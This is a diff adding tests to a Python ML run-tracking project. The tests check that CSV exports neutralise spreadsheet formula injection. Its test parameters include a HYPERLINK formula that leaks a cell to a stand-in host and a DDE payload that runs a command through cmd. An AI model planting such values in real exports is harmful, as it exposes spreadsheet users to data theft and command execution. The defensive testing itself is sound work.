@@ -18,7 +18,7 @@ from bigmodels.formatting import format_duration
 from bigmodels.models.sources import list_sources
 from bigmodels.models.registry import create_model
 from bigmodels.figures.runs import (
-    accuracy_axis, accuracy_figure, comparison_rows, confusion_figure, differing_settings, epochs_csv, loss_figure,
+    accuracy_axis, accuracy_figure, comparison_rows, confusion_figure, csv_cell, differing_settings, epochs_csv, loss_figure,
     parallel_coordinates, per_class_figure, scientific, smooth, step_xs, steps_csv, system_figure, thin,
 )
 from bigmodels.runs.evaluations import cached_evaluation, evaluate_checkpoint, fingerprint
@@ -401,6 +401,26 @@ def test_figures_tables_and_csv(store):
     assert table[0]["batch_size"] == "64"
     steps = list(csv.DictReader(io.StringIO(steps_csv([(a, store.steps(a.id))]))))
     assert len(steps) == 64 and steps[0]["step"] == "1"
+
+
+@pytest.mark.parametrize("name", ["=HYPERLINK(\"http://x.test/?\"&A1,\"go\")", "+1+1", "-2+3+cmd|' /C calc'!A0",
+                                  "@SUM(1,2)", "\uff1d1+1"])
+def test_csv_exports_escape_formulas_as_owasp_says(store, name):
+    run = finish_run(store, submit(store, cfg()).run.id)
+    run = store.set_info(run.id, name=name)
+    rows = list(csv.reader(io.StringIO(epochs_csv([(run, store.epochs(run.id))]))))
+    assert rows[1][1] == "'" + name  # a leading quote: the spreadsheet shows text, runs nothing
+    assert all(not cell.startswith(("=", "+", "-", "@", "\uff1d")) for row in rows for cell in row
+               if not cell.lstrip("-").replace(".", "", 1).replace("e", "", 1).isdigit())  # negative numbers stay
+    assert rows[1][0] == run.id and float(rows[1][-5]) == 0.9  # the other cells as they were
+
+
+def test_csv_cells_escape_tabs_and_carriage_returns_but_not_numbers():
+    assert [csv_cell(v) for v in ("\t=1", "\r=1", "a=1", -0.5, -3, None, "")] == \
+        ["'\t=1", "'\r=1", "a=1", -0.5, -3, None, ""]
+    rows = list(csv.reader(io.StringIO(steps_csv([(type("R", (), {"id": "=x"})(),
+                                                   [{"step": 1, "epoch": 1, "loss": -1.5, "lr": 1e-3, "t": 0.0}])]))))
+    assert rows[1][:4] == ["'=x", "1", "1", "-1.5"]
 
 
 # ---------------------------------------------------------- launch form
